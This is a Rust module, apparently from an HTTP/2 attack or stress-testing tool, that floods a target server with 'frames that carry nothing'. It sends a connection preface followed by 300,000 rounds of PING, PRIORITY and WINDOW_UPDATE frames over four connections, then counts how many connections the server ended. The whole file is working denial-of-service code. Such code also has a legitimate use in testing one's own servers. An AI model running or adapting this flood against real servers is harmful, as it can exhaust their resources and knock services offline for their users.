//! Frames that carry nothing.

use tokio_util::sync::CancellationToken;

use super::{Target, on_connections};
use crate::attack::wire::{PING, PRIORITY, WINDOW_UPDATE, beginning, frame};

const CONNECTIONS: usize = 4;
const ROUNDS: usize = 300_000;

pub(super) async fn run(target: Target, stop: CancellationToken) -> String {
    let round = [
        frame(PING, 0, 0, &[0; 8]),
        frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]),
        frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
    ];
    let bytes = [beginning(65_535), round.concat().repeat(ROUNDS)].concat();
    let ended = on_connections(CONNECTIONS, &target, bytes, &stop).await;
    format!("{ended} connections ended by the server")
}
